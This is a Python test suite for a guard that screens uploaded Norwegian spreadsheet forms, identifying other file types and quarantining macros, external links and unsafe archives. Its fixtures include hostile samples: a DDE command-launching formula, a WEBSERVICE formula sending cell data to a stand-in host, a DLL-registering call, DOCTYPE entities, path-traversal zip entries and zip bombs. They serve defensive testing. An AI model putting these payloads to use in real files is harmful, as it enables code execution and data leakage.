"""A file is known for what it is, and a dangerous one is left alone, before anything parses it."""

import io
import stat
import struct
import zipfile
from collections.abc import Callable
from hashlib import shake_256
from pathlib import Path
from string import Formatter

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from openpyxl.styles import Font

from intake import guard
from intake.exact import Flaw
from intake.guard import QUARANTINED, Inspection, inspect
from intake.package import Package
from intake.reader import read_workbook
from templates.texts import load_texts
from tests.conftest import Office

Members = dict[str, bytes]
Change = Callable[[Members], Members]

TEXTS = load_texts(Path(guard.__file__).parent / "texts.toml")
SHEET = "xl/worksheets/sheet1.xml"


def workbook(**cells: str | float) -> bytes:
    """Save a workbook of two sheets with these cells on the first."""
    book = Workbook()
    sheet = book.worksheets[0]
    sheet.title = "Skjema & svar"
    sheet["A1"] = "Hva heter tiltaket?"
    for reference, value in cells.items():
        sheet[reference] = value
    book.create_sheet("Budsjett")["A1"] = 1
    file = io.BytesIO()
    book.save(file)
    return file.getvalue()


GOOD = workbook()


def members(data: bytes) -> Members:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def packed(contents: Members) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in contents.items():
            archive.writestr(name, content)
    return file.getvalue()


def changed(change: Change) -> bytes:
    return packed(change(members(GOOD)))


def with_part(name: str, content: bytes = b"x") -> bytes:
    return changed(lambda parts: {**parts, name: content})


def with_text(part: str, old: str, new: str) -> bytes:
    """Replace some text in a part of the good workbook."""
    parts = members(GOOD)
    assert old.encode() in parts[part]
    return packed({**parts, part: parts[part].replace(old.encode(), new.encode(), 1)})


def with_cells(xml: str) -> bytes:
    """Put rows written by hand on the first sheet."""
    return with_text(SHEET, "<sheetData>", f"<sheetData>{xml}")


def with_main_type(kind: str) -> bytes:
    excel = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    return with_text("[Content_Types].xml", excel, kind)


def with_member(alter: Callable[[zipfile.ZipInfo], None], content: bytes = b"x") -> bytes:
    """Add a member that only a hand-made archive has."""
    file = io.BytesIO(GOOD)
    with zipfile.ZipFile(file, "a") as archive:
        info = zipfile.ZipInfo("extra.bin")
        alter(info)
        archive.writestr(info, content)
    return file.getvalue()


def ole(*streams: str) -> bytes:
    """Build the smallest compound file that has these empty streams."""
    end, free, fat_sector = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD
    header = guard.OLE + bytes(16) + struct.pack("<5H6x", 0x3E, 3, 0xFFFE, 9, 6)
    header += struct.pack("<9I", 0, 1, 1, 0, 4096, end, 0, end, 0) + struct.pack("<I", 0) + b"\xff" * 432
    fat = struct.pack("<2I", fat_sector, end) + struct.pack("<I", free) * 126
    tree = [(name, 2, number + 2 if number + 1 < len(streams) else free) for number, name in enumerate(streams)]
    entries = [
        _ole_entry("Root Entry", 5, free, 1),
        *(_ole_entry(name, kind, right, free) for name, kind, right in tree),
    ]
    directory = b"".join(entries).ljust(512, b"\0")
    return header + fat + directory


def _ole_entry(name: str, kind: int, right: int, child: int) -> bytes:
    text = name.encode("utf-16-le") + b"\0\0"
    head = text.ljust(64, b"\0") + struct.pack("<HBB3I", len(text), kind, 1, 0xFFFFFFFF, right, child)
    return head.ljust(116, b"\0") + struct.pack("<IQ", 0xFFFFFFFE, 0)


def reason(data: bytes, name: str = "skjema.xlsx") -> str | None:
    found = inspect(data, name)
    return found.reason if found else None


# workbooks that may be read


def test_a_workbook_is_let_through() -> None:
    assert inspect(GOOD, "skjema.xlsx") is None


def test_the_name_does_not_make_the_file() -> None:
    assert inspect(GOOD, "skjema.pdf") is None
    assert inspect(GOOD, "~$skjema.xlsx") is None


@pytest.mark.parametrize(
    "data",
    [
        with_main_type("application/vnd.openxmlformats-officedocument.spreadsheetml.template.main+xml"),
        packed({name.replace("/", "\\"): content for name, content in members(GOOD).items()}),
        packed({name.upper(): content for name, content in members(GOOD).items()}),
        with_part("customXml/item1.xml", "<?xml version='1.0' encoding='utf-16'?><a/>".encode("utf-16")),
        with_part("xl/media/image1.png"),
        GOOD + b"\0\0\0",
    ],
    ids=["template", "backslashes", "other case", "Power Query", "picture", "bytes after the end"],
)
def test_what_programs_do_to_a_workbook_is_let_through(data: bytes) -> None:
    assert inspect(data, "skjema.xlsx") is None


@pytest.mark.parametrize("cell", ["Z1", "SF20000", "A20000", "RZ19999", "AA9999"])
def test_a_value_within_the_caps_is_let_through(cell: str) -> None:
    assert inspect(workbook(**{cell: 1}), "skjema.xlsx") is None


def test_a_far_cell_with_a_style_alone_is_let_through() -> None:
    book = load_workbook(io.BytesIO(GOOD))
    book.worksheets[0]["XFD1048576"].font = Font(bold=True)
    file = io.BytesIO()
    book.save(file)

    assert b"XFD1048576" in members(file.getvalue())[SHEET]
    assert inspect(file.getvalue(), "skjema.xlsx") is None


def test_what_libreoffice_saves_is_let_through_with_its_errors_found(soffice: Office, tmp_path: Path) -> None:
    path = tmp_path / "skjema.xlsx"
    path.write_bytes(workbook(B2="=1/0", C31="=NA()", D4="=1+1"))
    (tmp_path / "lagret").mkdir()
    saved = soffice.convert(path, "xlsx", tmp_path / "lagret").read_bytes()

    assert inspect(saved, "skjema.xlsx") is None
    rows = read_workbook(Package(saved)).sheets[0].rows
    assert (rows[1][1], rows[30][2], rows[3][3]) == (Flaw("error_cell", "#DIV/0!"), Flaw("error_cell", "#N/A"), 2.0)


# files that are something else

OTHER_FILES = {
    "empty": (b"", "empty_file"),
    "too big": (b"PK\x03\x04" + bytes(guard.MAX_FILE), "too_big"),
    "pdf": (b"%PDF-1.7\n...", "pdf"),
    "pdf after a blank line": (b"\r\n%PDF-1.4\n...", "pdf"),
    "png": (b"\x89PNG\r\n\x1a\n", "image"),
    "jpeg": (b"\xff\xd8\xff\xe0", "image"),
    "gif": (b"GIF89a", "image"),
    "heic": (b"\0\0\0\x18ftypheic", "image"),
    "webp": (b"RIFF\0\0\0\0WEBPVP8 ", "image"),
    "html": (b"\xef\xbb\xbf\n<!DOCTYPE HTML><html></html>", "html"),
    "html saved by a browser": (b"MIME-Version: 1.0\r\n\r\n<p>", "html"),
    "xml spreadsheet": (b'<?xml version="1.0"?><Workbook/>', "not_a_workbook"),
    "csv": ("Spørsmål;Svar\r\nHva?;Ja\r\n".encode("cp1252"), "csv_or_text"),
    "csv with a mark": ("\ufeffSpørsmål;Svar".encode(), "csv_or_text"),
    "unicode text": ("Spørsmål\tSvar".encode("utf-16"), "csv_or_text"),
    "rtf": (b"{\\rtf1 Hei}", "word"),
    "rar": (b"Rar!\x1a\x07\x01\x00", "archive"),
    "7z": (b"7z\xbc\xaf\x27\x1c\x00\x04", "archive"),
    "gz": (b"\x1f\x8b\x08\x00", "archive"),
    "tar": (bytes(257) + b"ustar\x0000", "archive"),
    "empty zip": (packed({}), "other_zip"),
    "zip of a picture": (packed({"bilde.png": b"x"}), "other_zip"),
    "zip of a workbook": (packed({"skjema.xlsx": GOOD}), "other_zip"),
    "ods": (
        packed({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "content.xml": b"<a/>"}),
        "opendocument",
    ),
    "numbers": (packed({"Index/Document.iwa": b"x", "preview.jpg": b"x"}), "numbers"),
    "old numbers": (packed({"Index.zip": b"x"}), "numbers"),
    "docx": (
        with_main_type("application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"),
        "word",
    ),
    "docm": (with_main_type("application/vnd.ms-word.document.macroEnabled.main+xml"), "word"),
    "pptx": (
        with_main_type("application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"),
        "not_a_workbook",
    ),
    "xlsb": (with_main_type("application/vnd.ms-excel.sheet.binary.macroEnabled.main"), "xlsb"),
    "old excel": (ole("Workbook"), "old_excel"),
    "older excel": (ole("Book"), "old_excel"),
    "old word": (ole("WordDocument"), "word"),
    "outlook attachments": (b"\x78\x9f\x3e\x22\x01\x00", "winmail"),
    "outlook message": (ole("__properties_version1.0"), "outlook_mail"),
    "half an ole": (guard.OLE + bytes(100), "damaged"),
    "password": (ole("EncryptionInfo", "EncryptedPackage"), "password"),
    "nothing known": (b"\x00\x01\x02\x03" * 50, "not_a_workbook"),
}


@pytest.mark.parametrize("kind", OTHER_FILES)
def test_another_kind_of_file_is_called_what_it_is(kind: str) -> None:
    data, expected = OTHER_FILES[kind]

    assert inspect(data, "skjema.xlsx") == Inspection("unreadable", expected)


@pytest.mark.parametrize("name", ["~$skjema.xlsx", ".~lock.skjema.xlsx#"])
@pytest.mark.parametrize("data", [b"", b"\x0eKari Nordmann" + bytes(100), b",kari,pc,;"])
def test_what_programs_keep_beside_an_open_file_is_no_form(name: str, data: bytes) -> None:
    assert reason(data, name) == "lock_file"


def test_what_macos_keeps_beside_a_file_is_no_form() -> None:
    assert reason(b"\x00\x05\x16\x07\x00\x02\x00\x00Mac OS X", "._skjema.xlsx") == "lock_file"


def test_a_password_set_on_the_zip_is_a_password() -> None:
    assert (
        reason(GOOD.replace(b"PK\x01\x02\x14\x03\x14\x00\x00\x00", b"PK\x01\x02\x14\x03\x14\x00\x01\x00", 1))
        == "password"
    )


# By name: the workbook is as long as its date lets it be, and both processes that run tests must name them alike.
@pytest.mark.parametrize(
    "length", [4, 30, 1000, len(GOOD) // 2, len(GOOD) - 30], ids=["start", "name", "part", "half", "end"]
)
def test_a_file_cut_short_is_known_by_its_missing_end(length: int) -> None:
    assert inspect(GOOD[:length], "skjema.xlsx") == Inspection("unreadable", "truncated")


DAMAGED = {
    "wrong bytes": GOOD[:60] + b"\xff" * 40 + GOOD[100:],
    "no workbook": changed(lambda parts: {name: part for name, part in parts.items() if name != "xl/workbook.xml"}),
    "no relations": changed(lambda parts: {name: part for name, part in parts.items() if name != "_rels/.rels"}),
    "no sheet": changed(lambda parts: {name: part for name, part in parts.items() if name != SHEET}),
    "sheet elsewhere": with_text("xl/_rels/workbook.xml.rels", "worksheets/sheet1.xml", "../../../etc/passwd"),
    "unknown relation": with_text("xl/workbook.xml", 'r:id="rId1"', 'r:id="rId99"'),
    "not xml": changed(lambda parts: {**parts, SHEET: b"hei"}),
    "other root": changed(lambda parts: {**parts, SHEET: b"<html/>"}),
    "utf-16": changed(lambda parts: {**parts, SHEET: parts[SHEET].decode().encode("utf-16")}),
    "utf-16 without a mark": changed(lambda parts: {**parts, SHEET: parts[SHEET].decode().encode("utf-16-le")}),
    "utf-7": changed(lambda parts: {**parts, SHEET: b'<?xml version="1.0" encoding="UTF-7"?><worksheet/>'}),
    "open element": changed(lambda parts: {**parts, "xl/workbook.xml": parts["xl/workbook.xml"][:-5]}),
    "endless workbook": with_text(
        "xl/workbook.xml", "<sheets>", "<sheets>" + f"<!--{shake_256().hexdigest(2_500_000)}-->"
    ),
    "bad reference": with_cells('<row r="1"><c r="1A"><v>1</v></c></row>'),
    "row zero": with_cells('<row r="1"><c r="A0"><v>1</v></c></row>'),
    "endless row": with_cells(f'<row r="{"9" * 5000}"><c><v>1</v></c></row>'),
    "deep": with_cells("<c>" * 100 + "</c>" * 100),
}


@pytest.mark.parametrize("kind", DAMAGED)
def test_a_broken_workbook_is_called_damaged(kind: str) -> None:
    assert inspect(DAMAGED[kind], "skjema.xlsx") == Inspection("unreadable", "damaged")


# files that a person must look at


def duplicate() -> bytes:
    file = io.BytesIO(GOOD)
    with zipfile.ZipFile(file, "a") as archive:
        archive.writestr("xl/worksheets/SHEET1.xml", b"<worksheet/>")
    return file.getvalue()


def overlapping() -> bytes:
    """Let two entries of the directory stand for the same bytes."""
    end = GOOD.rindex(b"PK\x05\x06")
    count, size, offset = struct.unpack_from("<HII", GOOD, end + 10)
    name_length, extra_length, comment_length = struct.unpack_from("<3H", GOOD, offset + 28)
    entry = GOOD[offset : offset + 46 + name_length + extra_length + comment_length]
    twin = entry.replace(entry[46 : 46 + name_length], b"y" * name_length)
    closing = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, count + 1, count + 1, size + len(twin), offset, 0)
    return GOOD[:end] + twin + closing


def as_link(info: zipfile.ZipInfo) -> None:
    info.external_attr = (stat.S_IFLNK | 0o777) << 16


def as_bzip2(info: zipfile.ZipInfo) -> None:
    info.compress_type = zipfile.ZIP_BZIP2


def huge(info: zipfile.ZipInfo) -> None:
    info.compress_type = zipfile.ZIP_DEFLATED


def formula(text: str) -> bytes:
    return with_cells(f'<row r="7"><c r="A7"><f>{text}</f><v>1</v></c></row>')


NAME_OF_PROGRAM = """<definedName name="x">cmd|'/c calc'!A0</definedName>"""
DOCTYPE = '<!DOCTYPE worksheet [<!ENTITY a "b">]>'
ROOT_TAG = "<worksheet "

DANGEROUS = {
    "macro": (with_part("xl/vbaProject.bin"), "macro"),
    "macro workbook": (with_main_type("application/vnd.ms-excel.sheet.macroEnabled.main+xml"), "macro"),
    "old macro sheet": (with_part("xl/macrosheets/sheet1.xml", b"<a/>"), "macro"),
    "old macro sheet elsewhere": (
        with_text("xl/_rels/workbook.xml.rels", "relationships/worksheet", "relationships/xlMacrosheet"),
        "macro",
    ),
    "link": (with_part("xl/externalLinks/externalLink1.xml", b"<a/>"), "external_links"),
    "embedded": (with_part("xl/embeddings/oleObject1.bin"), "external_links"),
    "active": (with_part("xl/activeX/activeX1.bin"), "external_links"),
    "connection": (with_part("xl/connections.xml", b"<a/>"), "external_links"),
    "sheet on the net": (
        with_text("xl/_rels/workbook.xml.rels", "<Relationship ", '<Relationship TargetMode="External" '),
        "external_links",
    ),
    "doctype in a sheet": (with_text(SHEET, ROOT_TAG, DOCTYPE + ROOT_TAG), "doctype"),
    "doctype in the workbook": (
        with_text("xl/workbook.xml", "<workbook ", DOCTYPE + "<workbook "),
        "doctype",
    ),
    "doctype in properties": (
        with_part("docProps/custom.xml", f"{DOCTYPE}<Properties/>".encode()),
        "doctype",
    ),
    "doctype in content types": (with_text("[Content_Types].xml", "<Types ", DOCTYPE + "<Types "), "doctype"),
    "a formula that asks the net": (formula('WEBSERVICE("https://a.example/"&amp;B2)'), "reaching_formula"),
    "a formula that starts a program": (formula("cmd|'/c calc'!A0"), "reaching_formula"),
    "a formula that calls a library": (formula('_xlfn.REGISTER.ID("a.dll","b")'), "reaching_formula"),
    "a formula that opens a page": (formula('HYPERLINK("https://a.example","Svar her")'), "reaching_formula"),
    "a formula in small letters": (formula("webservice(A1)"), "reaching_formula"),
    "a name that starts a program": (
        with_text("xl/workbook.xml", "<sheets>", f"<definedNames>{NAME_OF_PROGRAM}</definedNames><sheets>"),
        "reaching_formula",
    ),
    "same name": (duplicate(), "unsafe_package"),
    "overlap": (overlapping(), "unsafe_package"),
    "bytes before": (b"PK\x03\x04" + bytes(100) + GOOD, "unsafe_package"),
    "parent folder": (with_part("../skjema.xml"), "unsafe_package"),
    "parent folder in Windows": (with_part("xl\\..\\..\\skjema.xml"), "unsafe_package"),
    "absolute": (with_part("/etc/passwd"), "unsafe_package"),
    "drive": (with_part("C:\\skjema.xml"), "unsafe_package"),
    "link in the zip": (with_member(as_link), "unsafe_package"),
    "other method": (with_member(as_bzip2), "unsafe_package"),
    "bomb": (with_member(huge, bytes(guard.RATIO_MATTERS + 1)), "zip_bomb"),
    "many members": (packed({str(number): b"" for number in range(guard.MAX_MEMBERS + 1)}), "zip_bomb"),
    "many elements": (
        with_cells("".join(f'<c r="{number}"/>' for number in range(200_000)) + "<c/>" * 1_400_000),
        "zip_bomb",
    ),
}


@pytest.mark.parametrize("kind", DANGEROUS)
def test_a_dangerous_file_is_put_aside_for_a_person(kind: str) -> None:
    data, expected = DANGEROUS[kind]

    assert inspect(data, "skjema.xlsx") == Inspection("quarantined", expected)


FAR_CELLS = {
    "row": '<row r="20001"><c r="A20001"><v>1</v></c></row>',
    "column": '<row r="1"><c r="SG1"><v>1</v></c></row>',
    "last cell": '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>hei</t></is></c></row>',
    "beyond the last": '<row r="1"><c r="ZZZZ99999999"><v>1</v></c></row>',
    "lower case": '<row r="1"><c r="xfd1048576"><v>1</v></c></row>',
    "formula": '<row r="1"><c r="XFD1"><f>1+1</f></c></row>',
    "other quotes": "<row r='1'><c r='XFD1'><v>1</v></c></row>",
    "other attribute first": '<row r="1"><c s="1" r="XFD1"><v>1</v></c></row>',
    "line break": '<row r="1"><c\nr="XFD1"><v>1</v></c></row>',
    "prefix": '<x:row xmlns:x="x" r="1"><x:c r="XFD1"><x:v>1</x:v></x:c></x:row>',
    "no reference": '<row r="1048576"><c><v>1</v></c></row>',
    "many without reference": f'<row r="1">{"<c><v>1</v></c>" * 501}</row>',
}


@pytest.mark.parametrize("kind", FAR_CELLS)
def test_a_value_far_out_is_found_however_it_is_written(kind: str) -> None:
    assert inspect(with_cells(FAR_CELLS[kind]), "skjema.xlsx") == Inspection("quarantined", "far_cell")


NEAR_CELLS = {
    "other quotes": "<row r='1'><c r='A1'><v>1</v></c></row>",
    "no references": "<row><c><v>1</v></c><c><v>2</v></c></row>",
    "comment": '<!-- <c r="XFD1"><v>1</v></c> -->',
    "prefix": '<x:row xmlns:x="x" r="1"><x:c r="A1"><x:v>1</x:v></x:c></x:row>',
    "a link within the workbook": '<row r="1"><c r="A1"><f>HYPERLINK("#Ark!A1","Dit")</f><v>1</v></c></row>',
    "a formula's words in a text": '<row r="1"><c r="A1" t="str"><v>cmd|x!A0 og WEBSERVICE(</v></c></row>',
}


@pytest.mark.parametrize("kind", NEAR_CELLS)
def test_an_unusual_way_of_writing_cells_is_no_fault(kind: str) -> None:
    assert inspect(with_cells(NEAR_CELLS[kind]), "skjema.xlsx") is None


# whatever comes in


@given(st.binary())
def test_any_bytes_are_told_apart(data: bytes) -> None:
    assert inspect(data, "skjema.xlsx") is not None


@given(st.lists(st.tuples(st.integers(0, len(GOOD) - 1), st.integers(0, 255)), min_size=1, max_size=20))
def test_a_workbook_with_some_wrong_bytes_never_stops_the_guard(flips: list[tuple[int, int]]) -> None:
    data = bytearray(GOOD)
    for place, byte in flips:
        data[place] = byte

    assert reason(bytes(data)) in {None, *TEXTS.entries}


@given(st.lists(st.tuples(st.integers(0, 1500), st.integers(0, 255)), min_size=1, max_size=20))
def test_an_old_file_with_some_wrong_bytes_never_stops_the_guard(flips: list[tuple[int, int]]) -> None:
    data = bytearray(ole("EncryptionInfo", "EncryptedPackage"))
    for place, byte in flips:
        data[place] = byte

    assert reason(bytes(data)) in TEXTS.entries


# the sentences

FOUND_BY_READING = {
    "foreign", "no_code", "wrong_form", "unknown_version", "bad_code", "codes_disagree", "unknown_recipient",
    "unknown_report", "empty_return", "two_forms", "sheets_missing", "keys_moved", "failed", "killed_reader",
    "no_code_likely", "locked_changed", "another_owner", "answer_dragged",
}  # fmt: skip
PLACEHOLDERS = {
    "unknown_version": {"name", "version", "current"},
    "two_forms": {"name", "sheets"},
    "sheets_missing": {"name", "sheets"},
    "keys_moved": {"name", "sheet", "label"},
    "mail_without_files": {"sender", "subject"},
    "mail_report": {"sender", "subject"},
    "mail_encrypted": {"sender", "subject"},
    "zip_password": {"name", "files"},
    "zip_damaged": {"name", "files"},
    "late_by_guess": {"received"},
    "late_forwarded": {"received", "forwarded"},
    "no_code_likely": {"name", "owner", "orgnr"},
    "locked_changed": {"name", "label", "was", "now"},
    "another_owner": {"name", "owner", "other"},
    "answer_dragged": {"name", "sheet", "label", "onto"},
}
NAMES = {"unnamed"}  # no reason: what a file without a name is called
FOUND_IN_SOURCES = {code for code in TEXTS.entries if code.startswith(("mail_", "zip_", "late_"))} - {"zip_bomb"}


def placeholders(text: str) -> set[str]:
    return {field for _, field, _, _ in Formatter().parse(text) if field}


def test_every_reason_has_its_own_sentence_and_every_sentence_a_reason() -> None:
    found = {expected for _, expected in [*OTHER_FILES.values(), *DANGEROUS.values()]}

    elsewhere = {"truncated", "lock_file", "far_cell", "nested"} | FOUND_BY_READING | FOUND_IN_SOURCES | NAMES
    assert TEXTS.entries.keys() == found | elsewhere
    assert found >= QUARANTINED - {"far_cell"}


@pytest.mark.parametrize("code", sorted(TEXTS.entries.keys() - NAMES))
def test_a_reason_is_told_in_both_languages_with_the_name_of_the_file(code: str) -> None:
    told = TEXTS.entries[code]

    assert told.keys() == {"nb", "nn"}
    assert told["nb"] != told["nn"]
    for text in told.values():
        assert placeholders(text) == PLACEHOLDERS.get(code, {"name"})
        assert text.endswith(".")
